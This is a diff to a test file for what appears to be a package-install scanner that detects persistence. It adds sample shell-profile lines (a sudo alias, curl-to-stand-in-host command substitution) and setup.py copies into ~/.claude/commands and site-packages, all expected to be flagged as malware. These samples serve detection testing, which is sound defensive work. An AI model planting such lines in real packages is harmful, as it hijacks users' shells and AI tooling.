@@ -297,6 +297,8 @@ describe('lines that an install adds to a shell profile', () => {
   test.each([
     '\n# settings of example\n',
     'export EXAMPLE_HOME="/opt/example"\n',
+    'alias example=". example-start"\n',
+    'fpath=(~/.example/completions $fpath)',
     '\neval "$(_EXAMPLE_COMPLETE=bash_source example)"',
   ])('that start nothing are for a person to judge: %j', async (line) => {
     const found = await inspect('persistence', sdist({ 'setup.py': adding(line) }));
@@ -307,6 +309,8 @@ describe('lines that an install adds to a shell profile', () => {
   test.each([
     'export PATH="/tmp/x:$PATH"\n',
     'export PROMPT_COMMAND=example\n',
+    'alias sudo="example sudo"\n',
+    'alias example="$(curl https://a.tools.invalid)"\n',
     'export PYTHONSTARTUP=/tmp/a.py\n',
     'export EXAMPLE_HOME="$(curl -s https://a.tools.invalid)"\n',
     'export EXAMPLE_HOME=/opt; example --daemon &\n',
@@ -316,4 +320,21 @@ describe('lines that an install adds to a shell profile', () => {
 
     expect(found).toMatchObject([{ class: 'malware', score: 10 }]);
   });
+});
+
+test('a copy is where it ends up, not where it comes from', async () => {
+  const copying = (from: string, to: string): string =>
+    python(
+      'import os, shutil',
+      'from setuptools import setup',
+      `shutil.copy2(${from}, ${to})`,
+      "setup(name='example')",
+    );
+  const packed = sdist({ 'setup.py': copying("'.claude/commands/a.md'", "'src/example/data/a.md'") });
+  const placed = sdist({ 'setup.py': copying("'data/a.md'", "os.path.expanduser('~/.claude/commands/a.md')") });
+  const named = sdist({ 'setup.py': copying("'data/sitecustomize.py'", 'site.getsitepackages()[0]') });
+
+  expect(await inspect('persistence', packed)).toEqual([]);
+  expect(await inspect('persistence', placed)).toMatchObject([{ class: 'malware' }]);
+  expect(await inspect('persistence', named)).toMatchObject([{ class: 'malware' }]);
 });
